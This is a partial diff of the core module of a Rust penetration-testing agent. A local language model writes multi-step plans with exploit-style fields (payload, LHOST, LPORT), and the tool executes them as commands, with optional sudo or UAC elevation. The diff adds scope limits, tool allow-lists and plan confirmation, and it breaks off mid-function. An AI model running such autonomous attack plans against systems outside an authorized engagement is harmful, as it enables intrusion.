@@ -1,63 +1,377 @@
 // src/core.rs
 
-use serde::Deserialize;
+use schemars::JsonSchema;
+use serde::{Deserialize, Serialize};
 use serde_json;
+use once_cell::sync::Lazy;
 use regex::Regex;
 
-use crate::command_executor::{self, ExecutionError};
+use crate::actions::{ActionHandler, ActionOutput, ActionRegistry};
+use crate::command_executor::{self, BackgroundCapture, ExecOptions, ExecutionError, InteractiveCheck};
+use crate::config::AppConfig;
+use crate::extractors::{self, ExtractInput};
+use crate::network::{check_cidr_size, is_valid_cidr, is_valid_ipv4, oversized_cidr, parse_gateway6, parse_windows_gateway, CIDR_RE, IPV4_RE, LINUX_GATEWAY_RE, MACOS_GATEWAY_RE};
 use crate::ollama_client::OllamaClient;
+use crate::prompt;
+use crate::report::{Anonymizer, RunReport, RunStats, StepReport, StepResult};
+use crate::scope::{self, ScopeRules};
+use crate::session::SessionState;
 use crate::setup::SystemSetup;
-// Removed unused Context import
-use anyhow::{anyhow, Result};
-use std::collections::HashMap;
+use anyhow::{anyhow, Context, Result};
+use ipnet::Ipv4Net;
+use std::collections::{BTreeMap, HashMap, HashSet};
 use std::fs::File;
-use std::io::Write;
+use std::io::{IsTerminal, Write};
+use std::net::Ipv4Addr;
 use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+use thiserror::Error;
 
 
+// --- CoreError ---
+// Failure kinds of process_query, so library callers can match instead of parsing messages
+#[derive(Error, Debug)]
+pub enum CoreError {
+    #[error("LLM generation failed: {0:#}")]
+    Generation(anyhow::Error),
+    #[error("Failed to parse LLM JSON plan: {error}. Raw response: {raw}")]
+    PlanParse { error: serde_json::Error, raw: String },
+    #[error("Plan rejected: {0}")]
+    InvalidPlan(String),
+    #[error("Execution failed at step {step}: {source}")]
+    StepFailed { step: u32, source: ExecutionError },
+    #[error("Failed step {step}: required information '{key}' for command not found from previous steps")]
+    MissingValue { step: u32, key: String },
+    // Recorded as the step's output rather than returned; the plan carries on
+    #[error("Blocked ({reason})")]
+    Blocked { step: u32, reason: String },
+    // A second Ctrl-C right after a step was aborted stops the rest of the run
+    #[error("Run aborted by user")]
+    Aborted,
+    #[error(transparent)]
+    Other(#[from] anyhow::Error),
+}
+
+// --- HistoryEntry ---
+// One executed (or skipped/blocked) plan step; formatted only when shown or sent to the model
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct HistoryEntry {
+    pub step: u32,
+    // What was performed: the final command for command steps
+    pub command: String,
+    pub output: String,
+    pub status: StepStatus,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum StepStatus {
+    Succeeded,
+    Failed,
+    Skipped,
+    Blocked,
+    Aborted,
+}
+
+impl std::fmt::Display for StepStatus {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let name = match self {
+            StepStatus::Succeeded => "succeeded",
+            StepStatus::Failed => "failed",
+            StepStatus::Skipped => "skipped",
+            StepStatus::Blocked => "blocked",
+            StepStatus::Aborted => "aborted",
+        };
+        f.write_str(name)
+    }
+}
+
+// Same layout the prompt history has always used; the status is only spelled out when notable
+impl std::fmt::Display for HistoryEntry {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self.status {
+            StepStatus::Succeeded => write!(f, "Step {}: {} ->\n{}", self.step, self.command, self.output),
+            status => write!(f, "Step {} ({}): {} ->\n{}", self.step, status, self.command, self.output),
+        }
+    }
+}
+
 // --- ExecutionContext ---
 pub struct ExecutionContext {
-    pub command_history: Vec<String>,
+    pub command_history: Vec<HistoryEntry>,
     pub model_context: Option<ollama_rs::generation::completion::GenerationContext>,
     pub discovered_values: HashMap<String, String>,
+    // Raw output of each step in the current plan, in execution order (step number, output)
+    pub step_outputs: Vec<(u32, String)>,
+    // Per-target results of steps that ran once per RHOST target, keyed by step number
+    pub target_results: HashMap<u32, BTreeMap<String, StepResult>>,
+    // command_history length when the current query started (its entries follow)
+    pub query_history_start: usize,
+    // Timing and plan size of the current query, for RunStats
+    pub query_started: Option<Instant>,
+    pub model_time: Duration,
+    pub planned_steps: usize,
+    // Where later steps run and what they inherit, from earlier steps' cd/export (per query)
+    pub workdir: Option<PathBuf>,
+    pub env: Vec<(String, String)>,
 }
 
 impl ExecutionContext {
     pub fn new() -> Self {
-        ExecutionContext { command_history: Vec::new(), model_context: None, discovered_values: HashMap::new() }
+        ExecutionContext { command_history: Vec::new(), model_context: None, discovered_values: HashMap::new(), step_outputs: Vec::new(), target_results: HashMap::new(), query_history_start: 0, query_started: None, model_time: Duration::ZERO, planned_steps: 0, workdir: None, env: Vec::new() }
+    }
+}
+
+impl Default for ExecutionContext {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+// Step outputs longer than this (or multi-line/containing shell syntax) are passed by temp file path
+const INLINE_OUTPUT_LIMIT: usize = 256;
+
+// Placeholders computed from the discovered subnet_cidr instead of looked up
+const CIDR_PLACEHOLDERS: &[&str] = &["cidr_hosts", "cidr_first", "cidr_last"];
+
+// In a command, stands for each target of a multi-target RHOST field in turn
+const RHOST_PLACEHOLDER: &str = "{rhost}";
+
+// After a step is aborted with Ctrl-C, another Ctrl-C within this window aborts the whole run
+const ABORT_RUN_WINDOW: std::time::Duration = std::time::Duration::from_secs(2);
+
+// Step output lines shown in the terminal by default (--max-display-lines)
+pub const DEFAULT_MAX_DISPLAY_LINES: usize = 50;
+
+// Background notes (--context-file) beyond this many bytes are truncated to protect the model context
+const BACKGROUND_NOTES_LIMIT: usize = 8 * 1024;
+
+// Words that mark a nearby IP/CIDR in the query as an intended target
+const TARGET_CONTEXT_WORDS: &[&str] = &[
+    "target", "targets", "scan", "host", "hosts", "ip", "address", "ping", "subnet",
+    "network", "range", "against", "attack", "enumerate", "probe", "box", "machine",
+];
+
+// --- CoreOptions ---
+#[derive(Debug, Clone)]
+pub struct CoreOptions {
+    // Pre-parse IPs/CIDRs from the query into discovered_values
+    pub preparse_query: bool,
+    // Require a target-ish word next to a match before accepting it
+    pub preparse_require_context: bool,
+    // Hosts/ports excluded from scope; checked before each command runs
+    pub scope: ScopeRules,
+    // Largest CIDR (usable hosts) a command may scan or {cidr_hosts} may expand; None = no limit
+    pub max_cidr_hosts: Option<u64>,
+    // If non-empty, every tool in a command must be on this list
+    pub allowed_tools: Vec<String>,
+    // If non-empty, every step's action_type must be on this list
+    pub allowed_actions: Vec<String>,
+    // Windows: relaunch privileged steps via UAC when not already elevated
+    pub elevate: bool,
+    // Linux: prefix commands that need root with `sudo -n` when not already root
+    pub auto_sudo: bool,
+    // Capture an nmap XML report alongside normal output for structured parsing
+    pub nmap_xml: bool,
+    // Make curl print the response headers (-i) so they can be parsed with the body
+    pub http_headers: bool,
+    // Shell for local commands ("auto", "bash", "sh", "cmd", "pwsh", ...); see resolve_shell
+    pub exec_shell: Option<String>,
+    // Print how each step's placeholders would resolve instead of executing the plan
+    pub show_substitutions: bool,
+    // Ask the model to explain steps whose purpose is missing or too terse before running them
+    pub explain_plan: bool,
+    // Open each parsed plan in $EDITOR before it runs (--edit-plan)
+    pub edit_plan: bool,
+    // Have the model critique each plan for safety/correctness before it runs (--review)
+    pub review_plan: bool,
+    // target_ip for queries that don't name an IP/CIDR (default_target / --target)
+    pub default_target: Option<String>,
+    // Values known up front (--set); discovery may overwrite them
+    pub preset_values: HashMap<String, String>,
+    // Values known up front (--pin); discovery never overwrites them
+    pub pinned_values: HashMap<String, String>,
+    // Skip a step whose placeholders can't be resolved instead of aborting the plan
+    pub skip_unresolved: bool,
+    // Reject plans whose step numbers aren't 1, 2, 3, ... instead of warning
+    pub strict_steps: bool,
+    // Terminal display cap for a step's output (head + tail); 0 shows everything. Storage is never capped.
+    pub max_display_lines: usize,
+    // Write each parsed plan here as JSON (--save-plan) for `replay`
+    pub save_plan: Option<PathBuf>,
+    // Print command output live as it arrives instead of after the command exits
+    pub stream_output: bool,
+    // Let local commands read the terminal (--attach-stdin) instead of rewriting/warning about prompts
+    pub attach_stdin: bool,
+    // Keep stderr of successful commands in the step output (and so in what extractors see)
+    pub include_stderr: bool,
+    // tool -> args added to every command running that tool (e.g. nmap = "--max-rate 100")
+    pub tool_defaults: HashMap<String, String>,
+    // Per-command limit and whole-query deadline ([timeouts]); None = no limit
+    pub exec_timeout: Option<Duration>,
+    pub run_timeout: Option<Duration>,
+    // Run after each step with its number, command and status (post_step_hook)
+    pub post_step_hook: Option<String>,
+    // Logical name -> file for {wordlist:<name>} ([wordlists] plus detected defaults), ~ already expanded
+    pub wordlists: HashMap<String, PathBuf>,
+    // Where artifacts without an explicit path (capture pcaps) go (--engagement); None = working directory
+    pub artifact_dir: Option<PathBuf>,
+    // Step tag filters (--only-tags / --skip-tags); an empty only_tags lets untagged steps run
+    pub only_tags: Vec<String>,
+    pub skip_tags: Vec<String>,
+    // Show one summary of the plan's targets, tools and actions and ask before running it (--confirm-plan)
+    pub confirm_plan: bool,
+    // Re-prompt for concrete commands when a model plan has command-less "scan the network" steps
+    pub expand_vague_steps: bool,
+    // Earlier steps and the model context feed into the next query; off, every query starts clean (--no-history)
+    pub keep_history: bool,
+}
+
+impl Default for CoreOptions {
+    fn default() -> Self {
+        CoreOptions {
+            preparse_query: true,
+            preparse_require_context: false,
+            scope: ScopeRules::default(),
+            max_cidr_hosts: Some(crate::config::DEFAULT_MAX_CIDR_HOSTS),
+            allowed_tools: Vec::new(),
+            allowed_actions: Vec::new(),
+            elevate: false,
+            auto_sudo: false,
+            nmap_xml: true,
+            http_headers: true,
+            exec_shell: None,
+            show_substitutions: false,
+            explain_plan: false,
+            edit_plan: false,
+            review_plan: false,
+            default_target: None,
+            preset_values: HashMap::new(),
+            pinned_values: HashMap::new(),
+            skip_unresolved: false,
+            strict_steps: false,
+            max_display_lines: DEFAULT_MAX_DISPLAY_LINES,
+            save_plan: None,
+            stream_output: false,
+            attach_stdin: false,
+            include_stderr: false,
+            tool_defaults: HashMap::new(),
+            exec_timeout: Some(Duration::from_secs(crate::config::DEFAULT_EXEC_TIMEOUT_SECS)),
+            run_timeout: None,
+            post_step_hook: None,
+            wordlists: HashMap::new(),
+            artifact_dir: None,
+            only_tags: Vec::new(),
+            skip_tags: Vec::new(),
+            confirm_plan: false,
+            expand_vague_steps: false,
+            keep_history: true,
+        }
+    }
+}
+
+impl CoreOptions {
+    // Reads the config-driven options; CLI flags are layered on top by the caller
+    pub fn from_config(config: &AppConfig) -> Self {
+        let advanced = config.advanced.as_ref();
+        CoreOptions {
+            preparse_query: advanced.and_then(|a| a.query_preparse).unwrap_or(true),
+            preparse_require_context: advanced.and_then(|a| a.preparse_require_context).unwrap_or(false),
+            scope: ScopeRules::default(),
+            max_cidr_hosts: config.max_cidr_hosts(),
+            allowed_tools: config.safety.as_ref().and_then(|s| s.allowed_tools.clone()).unwrap_or_default(),
+            allowed_actions: config.safety.as_ref().and_then(|s| s.allowed_actions.clone()).unwrap_or_default(),
+            elevate: false,
+            auto_sudo: false,
+            nmap_xml: advanced.and_then(|a| a.nmap_xml).unwrap_or(true),
+            http_headers: advanced.and_then(|a| a.http_headers).unwrap_or(true),
+            exec_shell: advanced.and_then(|a| a.exec_shell.clone()),
+            show_substitutions: false,
+            explain_plan: false,
+            edit_plan: false,
+            review_plan: false,
+            default_target: config.default_target.clone(),
+            preset_values: HashMap::new(),
+            pinned_values: HashMap::new(),
+            skip_unresolved: false,
+            strict_steps: false,
+            max_display_lines: DEFAULT_MAX_DISPLAY_LINES,
+            save_plan: None,
+            stream_output: advanced.and_then(|a| a.stream_output).unwrap_or(false),
+            attach_stdin: false,
+            include_stderr: advanced.and_then(|a| a.include_stderr).unwrap_or(false),
+            confirm_plan: false,
+            expand_vague_steps: advanced.and_then(|a| a.expand_vague_steps).unwrap_or(false),
+            keep_history: advanced.and_then(|a| a.keep_history).unwrap_or(true),
+            tool_defaults: config.tool_defaults.clone().unwrap_or_default(),
+            exec_timeout: config.exec_timeout(),
+            run_timeout: config.run_timeout(),
+            post_step_hook: config.post_step_hook.clone().filter(|h| !h.trim().is_empty()),
+            wordlists: config.wordlists(),
+            artifact_dir: None,
+            only_tags: Vec::new(),
+            skip_tags: Vec::new(),
+        }
     }
 }
 
 // --- Structs for Multi-Step JSON response ---
-#[derive(Deserialize, Debug, Clone)]
-struct CommandStep {
-    step: u32,
-    action_type: String,
-    command: Option<String>, // Command can be optional now
-    purpose: Option<String>,
+#[derive(Deserialize, Serialize, JsonSchema, Debug, Clone)]
+pub struct CommandStep {
+    pub step: u32,
+    pub action_type: String,
+    pub command: Option<String>, // Command can be optional now
+    pub purpose: Option<String>,
 
     // Common Dedicated Fields (Optional)
-    #[serde(rename = "PAYLOAD:", default)]
-    payload: Option<String>,
-    #[serde(rename = "LHOST:", default)]
-    lhost: Option<String>,
-    #[serde(rename = "RHOST:", default)]
-    rhost: Option<String>, // Can also be RHOSTS for multiple targets
-    #[serde(rename = "LPORT:", default)]
-    lport: Option<String>, // Use String for flexibility
-    #[serde(rename = "RPORT:", default)]
-    rport: Option<String>, // Use String for flexibility
-    #[serde(rename = "EXITFUNC:", default)] // Common payload option
-    exitfunc: Option<String>, // e.g., "thread", "process", "seh", "none"
-    #[serde(rename = "TARGETURI:", default)] // Common web option
-    targeturi: Option<String>,
+    // The colon form is what the system prompt asks for; models often drop it (or use lowercase)
+    #[serde(rename = "PAYLOAD:", alias = "PAYLOAD", alias = "payload", default)]
+    pub payload: Option<String>,
+    #[serde(rename = "LHOST:", alias = "LHOST", alias = "lhost", default)]
+    pub lhost: Option<String>,
+    #[serde(rename = "RHOST:", alias = "RHOST", alias = "rhost", alias = "RHOSTS:", alias = "RHOSTS", alias = "rhosts", default)]
+    pub rhost: Option<String>, // Can also be RHOSTS for multiple targets
+    #[serde(rename = "LPORT:", alias = "LPORT", alias = "lport", default)]
+    pub lport: Option<String>, // Use String for flexibility
+    #[serde(rename = "RPORT:", alias = "RPORT", alias = "rport", default)]
+    pub rport: Option<String>, // Use String for flexibility
+    #[serde(rename = "EXITFUNC:", alias = "EXITFUNC", alias = "exitfunc", default)] // Common payload option
+    pub exitfunc: Option<String>, // e.g., "thread", "process", "seh", "none"
+    #[serde(rename = "TARGETURI:", alias = "TARGETURI", alias = "targeturi", default)] // Common web option
+    pub targeturi: Option<String>,
 
     // Generic Options Map for everything else
     #[serde(default)] // Use default for the map itself
-    options: HashMap<String, String>,
+    pub options: HashMap<String, String>,
+
+    // Model-declared extraction hints, e.g. { "ssh_version": "regex: OpenSSH_([\\d.]+)" }
+    #[serde(default)]
+    pub extract: HashMap<String, String>,
+
+    // "json" when the command prints JSON or JSON Lines (e.g. `httpx -json`); values are read from fields
+    #[serde(default)]
+    pub output_format: Option<String>,
+    // Dotted field paths to store (e.g. ["url", "info.severity"]); empty stores every top-level scalar
+    #[serde(default)]
+    pub json_fields: Vec<String>,
+    // Prefix for the stored keys (default: the tool name), e.g. "httpx" gives {httpx_url}
+    #[serde(default)]
+    pub json_prefix: Option<String>,
+
+    // Set to false when hand-editing a saved plan to skip the step without deleting it
+    #[serde(default = "step_enabled_default")]
+    pub enabled: bool,
+    // Plan phases like "recon" or "exploit", matched by --only-tags / --skip-tags
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
+}
+
+fn step_enabled_default() -> bool {
+    true
 }
 
-#[derive(Deserialize, Debug)]
+#[derive(Deserialize, Serialize, JsonSchema, Debug)]
 struct MultiStepResponse {
     explanation: Option<String>,
     #[serde(default)]
@@ -69,76 +383,320 @@ pub struct AppCore {
     client: OllamaClient,
     context: ExecutionContext,
     system_setup: SystemSetup,
+    options: CoreOptions,
+    // User-supplied background (prior scans, asset inventory) included in every prompt
+    background_notes: Option<String>,
+    // action_type -> handler used to run each plan step
+    actions: ActionRegistry,
+    // Packet captures started by `capture` steps, stopped after their until_step or at plan end
+    captures: Vec<BackgroundCapture>,
+    // Step output files handed to commands ({step_N_output}); deleted when the next query begins
+    output_files: Mutex<Vec<tempfile::TempPath>>,
 }
 
 // --- AppCore impl ---
 impl AppCore {
     // --- new function ---
-    pub fn new(client: OllamaClient, system_setup: SystemSetup) -> Self {
-        AppCore { client, context: ExecutionContext::new(), system_setup }
+    pub fn new(client: OllamaClient, system_setup: SystemSetup, options: CoreOptions) -> Self {
+        AppCore { client, context: ExecutionContext::new(), system_setup, options, background_notes: None, actions: ActionRegistry::default(), captures: Vec::new(), output_files: Mutex::new(Vec::new()) }
+    }
+
+    // --- Background notes ---
+    // Loads a notes file to ground the model; oversized files are truncated to BACKGROUND_NOTES_LIMIT
+    pub fn load_background_notes(&mut self, path: &Path) -> Result<()> {
+        let notes = std::fs::read_to_string(path)
+            .context(format!("Failed to read context file: {}", path.display()))?;
+        let mut notes = notes.trim().to_string();
+        if notes.len() > BACKGROUND_NOTES_LIMIT {
+            let mut cut = BACKGROUND_NOTES_LIMIT;
+            while !notes.is_char_boundary(cut) {
+                cut -= 1;
+            }
+            println!("WARN: Context file {} is {} bytes; only the first {} are used.", path.display(), notes.len(), cut);
+            notes.truncate(cut);
+            notes.push_str("\n[... truncated ...]");
+        }
+        self.background_notes = Some(notes).filter(|n| !n.is_empty());
+        Ok(())
+    }
+
+    // Default location for a generated artifact file (the engagement directory, else the working directory)
+    pub fn artifact_path(&self, file_name: &str) -> PathBuf {
+        match &self.options.artifact_dir {
+            Some(dir) => dir.join(file_name),
+            None => PathBuf::from(file_name),
+        }
+    }
+
+    // Directory artifacts and write_file steps are confined to: the engagement directory, else the working directory
+    pub fn artifact_dir(&self) -> PathBuf {
+        self.options.artifact_dir.clone().or_else(|| std::env::current_dir().ok()).unwrap_or_else(|| PathBuf::from("."))
+    }
+
+    // Where to save the next parsed plan (`run --save-plan`)
+    pub fn set_save_plan(&mut self, path: Option<PathBuf>) {
+        self.options.save_plan = path;
+    }
+
+    // --- Custom action types ---
+    // Adds (or replaces) the handler for a plan `action_type`, e.g. an org-specific ticketing step
+    pub fn register_action(&mut self, action_type: &str, handler: Arc<dyn ActionHandler>) {
+        self.actions.register(action_type, handler);
+    }
+
+    // --- Context accessors ---
+    pub fn context(&self) -> &ExecutionContext {
+        &self.context
+    }
+
+    // Facts discovered during the last query (pre-parse, extractors, step hints)
+    pub fn discovered_values(&self) -> &HashMap<String, String> {
+        &self.context.discovered_values
+    }
+
+    // Structured report of the last query; `summary` is what process_query returned
+    pub fn run_report(&self, query: &str, summary: &str) -> RunReport {
+        RunReport {
+            query: query.to_string(),
+            summary: summary.to_string(),
+            discovered_values: self.context.discovered_values.clone().into_iter().collect(),
+            steps: self
+                .context
+                .step_outputs
+                .iter()
+                .zip(self.context.command_history.get(self.context.query_history_start..).unwrap_or_default())
+                .map(|((step, output), entry)| StepReport {
+                    step: *step,
+                    command: entry.command.clone(),
+                    status: entry.status,
+                    output: output.clone(),
+                    targets: self.context.target_results.get(step).cloned().unwrap_or_default(),
+                })
+                .collect(),
+            stats: self.run_stats(),
+            anonymization_legend: BTreeMap::new(),
+        }
+    }
+
+    // Outcome counts and timing of the last query
+    pub fn run_stats(&self) -> RunStats {
+        let entries = self.context.command_history.get(self.context.query_history_start..).unwrap_or_default();
+        let count = |wanted: &[StepStatus]| entries.iter().filter(|e| wanted.contains(&e.status)).count();
+        let executed = count(&[StepStatus::Succeeded, StepStatus::Failed, StepStatus::Aborted]);
+        let blocked = count(&[StepStatus::Blocked]);
+        RunStats {
+            total_steps: self.context.planned_steps,
+            executed,
+            skipped: self.context.planned_steps.saturating_sub(executed + blocked),
+            failed: count(&[StepStatus::Failed, StepStatus::Aborted]),
+            blocked,
+            wall_time_secs: self.context.query_started.map(|t| t.elapsed().as_secs_f64()).unwrap_or(0.0),
+            model_time_secs: self.context.model_time.as_secs_f64(),
+        }
+    }
+
+    // Pseudonymizer for a report of this run; scope exclusions count as known target names
+    pub fn anonymizer(&self, report: &RunReport) -> Anonymizer {
+        let known_hosts: Vec<String> = self
+            .options
+            .scope
+            .excluded_hosts
+            .iter()
+            .map(|net| if net.prefix_len() == 32 { net.addr().to_string() } else { net.to_string() })
+            .collect();
+        Anonymizer::for_report(report, &known_hosts)
+    }
+
+    // Drops history, step outputs and model context (fresh conversation)
+    pub fn reset_context(&mut self) {
+        self.context = ExecutionContext::new();
+    }
+
+    // --- Session persistence ---
+    // Snapshot for `--session`: the model conversation plus history and facts
+    pub fn export_session(&self) -> SessionState {
+        SessionState {
+            model: self.client.model().to_string(),
+            model_context: self.context.model_context.clone(),
+            command_history: self.context.command_history.clone(),
+            discovered_values: self.context.discovered_values.clone().into_iter().collect(),
+        }
+    }
+
+    // Resumes a saved session. Saved facts become presets (so each query starts with them, and
+    // --set/--pin still win); a context from a different model is meaningless to this one and dropped.
+    pub fn restore_session(&mut self, state: SessionState) {
+        if state.model == self.client.model() {
+            self.context.model_context = state.model_context;
+        } else if state.model_context.is_some() {
+            println!(
+                "WARN: Session was recorded with model '{}', now using '{}'; starting a fresh model conversation.",
+                state.model,
+                self.client.model()
+            );
+        }
+        self.context.command_history = state.command_history;
+        self.restore_facts(state.discovered_values);
+    }
+
+    // Only the discovered values of an earlier session (--since): placeholders resolve from them
+    // while the model starts a fresh conversation. Like restore_session, --set/--pin still win.
+    pub fn restore_facts(&mut self, values: BTreeMap<String, String>) -> usize {
+        let mut restored = 0;
+        for (key, value) in values {
+            if self.options.pinned_values.contains_key(&key) || self.options.preset_values.contains_key(&key) {
+                continue;
+            }
+            self.options.preset_values.insert(key, value);
+            restored += 1;
+        }
+        restored
+    }
+
+    // Frees the model's memory on the Ollama host now instead of after keep_alive expires.
+    // The conversation context is kept; the next query just reloads the model.
+    pub async fn unload_model(&self) -> Result<()> {
+        self.client
+            .unload()
+            .await
+            .context(format!("Failed to unload model '{}'", self.client.model()))
+    }
+
+    // --- from_config function ---
+    // Builds a ready AppCore (platform detection, Ollama client, options) from a loaded config.
+    // Does not install or validate Ollama; callers that need that run SystemSetup::ensure_ollama first.
+    pub fn from_config(config: &AppConfig, config_dir: PathBuf) -> Self {
+        let client = OllamaClient::from_config(config, config_dir);
+        AppCore::new(client, SystemSetup::new(), CoreOptions::from_config(config))
     }
 
     // --- process_query function ---
-    pub async fn process_query(&mut self, query: &str) -> Result<String> {
-        self.context.discovered_values.clear();
+    pub async fn process_query(&mut self, query: &str) -> std::result::Result<String, CoreError> {
+        self.begin_query(Some(query));
+
+        println!("\n--- Generating Plan ---");
+        // Pass the original query, but discovered_values is now pre-populated
+        let prompt = self.build_prompt(query);
     
-        // *** START: Add pre-parsing logic here ***
+        // Once a step has been aborted, Ctrl-C no longer kills the process by default, so
+        // generation has to listen for it too
+        let model_context = self.context.model_context.clone().filter(|_| self.options.keep_history);
+        let generation = self.client.generate(&prompt, model_context, &self.system_setup);
+        let generation_started = Instant::now();
+        let (json_response_str, new_context) = tokio::select! {
+            result = generation => result.map_err(CoreError::Generation)?,
+            _ = tokio::signal::ctrl_c() => return Err(CoreError::Aborted),
+        };
+        self.context.model_time += generation_started.elapsed();
+        self.context.model_context = new_context.filter(|_| self.options.keep_history);
+
+        // Call execute_llm_plan without passing discovered_values explicitly
+        self.execute_llm_plan(&json_response_str, true).await
+    }
+
+
+    // --- Replay ---
+    // Runs a plan saved with --save-plan through the normal executor; `query` (optional) is
+    // only pre-parsed for targets, the model is not involved
+    pub async fn replay_plan(&mut self, plan_json: &str, query: Option<&str>) -> std::result::Result<String, CoreError> {
+        self.begin_query(query);
+        self.execute_llm_plan(plan_json, false).await
+    }
+
+    // Per-query state reset: presets/pins, then values pre-parsed from the query text
+    fn begin_query(&mut self, query: Option<&str>) {
+        // Without history a query knows nothing of the model conversation before it; command_history
+        // stays for the session record and build_prompt only shows this query's part of it
+        if !self.options.keep_history {
+            self.context.model_context = None;
+        }
+        self.context.discovered_values.clear();
+        self.context.step_outputs.clear();
+        self.output_files.get_mut().unwrap_or_else(|e| e.into_inner()).clear();
+        self.context.target_results.clear();
+        self.context.query_history_start = self.context.command_history.len();
+        self.context.query_started = Some(Instant::now());
+        self.context.model_time = Duration::ZERO;
+        self.context.planned_steps = 0;
+        self.context.workdir = None;
+        self.context.env.clear();
+        for (key, value) in self.options.preset_values.iter().chain(&self.options.pinned_values) {
+            println!(">>> Preset {}: {}", key, value);
+            self.context.discovered_values.insert(key.clone(), value.clone());
+        }
+        // The default target only fills in for a target_ip nobody --set/--pin'd
+        let default_target = match &self.options.default_target {
+            Some(target) if !self.context.discovered_values.contains_key("target_ip") => {
+                println!(">>> Default target_ip: {}", target);
+                self.context.discovered_values.insert("target_ip".to_string(), target.clone());
+                true
+            }
+            _ => false,
+        };
+
+        let parsed = match query {
+            Some(query) if self.options.preparse_query => self.preparse_query(query),
+            // Pre-parsing disabled: only model-discovered values
+            _ => None,
+        };
+        // An IP in the query replaces target_ip anyway; a CIDR means the query isn't about the default host
+        if default_target && parsed == Some("subnet_cidr") {
+            println!("INFO: Query names a subnet, dropping the default target.");
+            self.context.discovered_values.remove("target_ip");
+        }
+    }
+
+    // --- Query pre-parsing helper ---
+    // Pulls a user-provided CIDR (preferred) or single IP out of the query text; returns the key it set
+    fn preparse_query(&mut self, query: &str) -> Option<&'static str> {
         println!("DEBUG: Parsing initial query: '{}'", query);
 
-        // Regex for CIDR subnet (e.g., 192.168.1.0/24) - This one is fine
-        let cidr_re = Regex::new(r"\b((?:[0-9]{1,3}\.){3}[0-9]{1,3}/\d{1,2})\b")
-                        .expect("Invalid CIDR regex");
-        // Regex for single IP - REMOVED the unsupported negative lookahead
-        let ip_re = Regex::new(r"\b((?:[0-9]{1,3}\.){3}[0-9]{1,3})\b")
-                        .expect("Invalid IP regex");
+        let require_context = self.options.preparse_require_context;
+        let accept = |m: &regex::Match, valid: fn(&str) -> bool| {
+            valid(m.as_str()) && (!require_context || has_target_context(query, m.start(), m.end()))
+        };
 
         // Check for CIDR first
-        if let Some(captures) = cidr_re.find(query) {
+        let mut found = None;
+        if let Some(captures) = CIDR_RE.find_iter(query).find(|m| accept(m, is_valid_cidr)) {
             let discovered_cidr = captures.as_str().to_string();
             println!(">>> Discovered user-provided subnet_cidr: {}", discovered_cidr);
             // Store with the key the LLM expects for subnets
-            self.context.discovered_values.insert("subnet_cidr".to_string(), discovered_cidr);
-        } else if let Some(captures) = ip_re.find(query) { // Only look for single IP if CIDR wasn't found
+            self.store_value("subnet_cidr", discovered_cidr);
+            found = Some("subnet_cidr");
+        } else if let Some(captures) = IPV4_RE.find_iter(query).find(|m| accept(m, is_valid_ipv4)) { // Only look for single IP if CIDR wasn't found
             let discovered_ip = captures.as_str().to_string();
             println!(">>> Discovered user-provided target_ip: {}", discovered_ip);
             // Store with the key the LLM expects for single targets
-            self.context.discovered_values.insert("target_ip".to_string(), discovered_ip);
+            self.store_value("target_ip", discovered_ip);
+            found = Some("target_ip");
         }
         // Add hostname regex/logic here if needed
 
-        println!("DEBUG: Values *after* query parse: {:?}", self.context.discovered_values);
-        // *** END: Corrected pre-parsing logic ***    
-    
-        println!("\n--- Generating Plan ---");
-        // Pass the original query, but discovered_values is now pre-populated
-        let prompt = self.build_prompt(query);
-    
-        let (json_response_str, new_context) = match self.client
-            .generate(&prompt, self.context.model_context.clone(), &self.system_setup)
-            .await {
-            Ok(resp) => resp,
-            Err(e) => return Err(e.context("LLM generation failed")),
-        };
-        self.context.model_context = new_context;
-
-        // Call execute_llm_plan without passing discovered_values explicitly
-        match self.execute_llm_plan(&json_response_str).await { // <-- Removed extra argument
-            Ok(output_message) => Ok(output_message),
-            Err(e) => {
-                eprintln!("Error processing plan: {}. Raw response: {}", e, json_response_str);
-                Ok(format!("Error during processing: {}. Raw response was:\n{}", e, json_response_str))
-            }
-        }
+        println!("DEBUG: Values *after* query parse: {:?}", self.shown_values());
+        found
     }
 
-
     // --- Function to execute the multi-step plan (Signature reverted) ---
-    async fn execute_llm_plan(&mut self, json_response: &str) -> Result<String> {
+    // `from_model` is false for replayed plans, which must not trigger further model requests
+    async fn execute_llm_plan(&mut self, json_response: &str, from_model: bool) -> std::result::Result<String, CoreError> {
         // *** ADD LOGGING HERE to see the raw response ***
         println!("DEBUG: Raw LLM JSON response:\n>>>\n{}\n<<<", json_response);
 
-        match serde_json::from_str::<MultiStepResponse>(json_response) {
-            Ok(plan) => {
+        match parse_plan(json_response) {
+            Ok(mut plan) => {
+                if from_model && self.options.expand_vague_steps {
+                    let started = Instant::now();
+                    plan.steps = self.expand_vague_steps(plan.steps, plan.explanation.as_deref().unwrap_or("")).await;
+                    self.context.model_time += started.elapsed();
+                }
+                let plan = if self.options.edit_plan { self.edit_plan(plan).await? } else { plan };
+                if let Some(path) = &self.options.save_plan {
+                    let json = serde_json::to_string_pretty(&plan).context("Failed to serialize plan")?;
+                    std::fs::write(path, json).context(format!("Failed to save plan to {}", path.display()))?;
+                    println!("Plan saved to {}", path.display());
+                }
+                self.context.planned_steps = plan.steps.len();
                 let explanation = plan.explanation.unwrap_or_else(|| "Executing plan...".to_string());
                 println!("{}", explanation); // This prints "Executing plan..." the first time
 
@@ -148,152 +706,1190 @@ impl AppCore {
                     return Ok(explanation);
                 }
 
+                if self.options.review_plan {
+                    let started = Instant::now();
+                    self.review_plan(&explanation, &plan.steps).await;
+                    self.context.model_time += started.elapsed();
+                }
+
+                if self.options.show_substitutions {
+                    let preview = self.substitution_preview(&plan.steps);
+                    return Ok(format!("Substitution Preview (nothing was executed):\n{}\n\n{}", explanation, preview));
+                }
+
+                if self.options.confirm_plan && !self.confirm_plan(&plan.steps).await? {
+                    println!("INFO: Plan declined, nothing was run.");
+                    return Ok(format!("Plan not run (declined at confirmation):\n{}", explanation));
+                }
+
+                // Check/install every tool the plan will need before the first step runs
